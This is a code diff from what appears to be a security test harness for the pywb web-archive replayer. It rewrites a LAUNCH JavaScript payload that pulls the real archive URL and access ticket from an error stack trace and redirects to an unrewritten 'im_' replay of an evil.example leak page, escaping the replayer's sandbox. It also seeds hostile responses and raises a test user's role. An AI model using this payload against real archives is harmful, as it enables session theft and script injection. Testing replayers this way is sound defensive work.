@@ -25,9 +25,10 @@ FRONT = b"""<!doctype html><html><head><title>Portada %s</title><link rel="style
 ATTACK = Path(__file__).with_name("attack.html").read_text()
 
 LEAK = Path(__file__).with_name("leak.html").read_text()
-# pywb rewrites pages, not pictures: this leads to the page as its author wrote it.
-LAUNCH = b"""<script>var here = Function("return this")()["lo" + "cation"];
-here.replace(here.href.replace("mp_", "im_").replace("launch", "leak"))</script>"""
+# pywb rewrites pages, not pictures: this leads to the page as its author wrote it. pywb's script tells a page that it
+# is where it was, yet an error says where it really is, ticket and all.
+LAUNCH = rb"""<script>var real = /[^\s(]+(?=mp_)/.exec(new Error().stack)[0];
+location.replace(real + "im_/https://evil.example/leak")</script>"""
 GIVEN = "Access-Control-Allow-Origin: *\r\n"
 
 HOSTILE_HEADERS = (
@@ -130,4 +131,4 @@ def fill(port, sink=0, stun=0):
     put(world, "https://evil.example/answer", smuggled, content_type="text/html")
     for status in ("101 Switching Protocols", "204 No Content", "304 Not Modified"):
         put(world, f"https://evil.example/{status[:3]}", b"not empty", status=status)
-    services.add_user(SYSTEM, "eva", Role.EDITOR, PASSWORD)
+    services.add_user(SYSTEM, "eva", Role.DIRECTOR, PASSWORD)
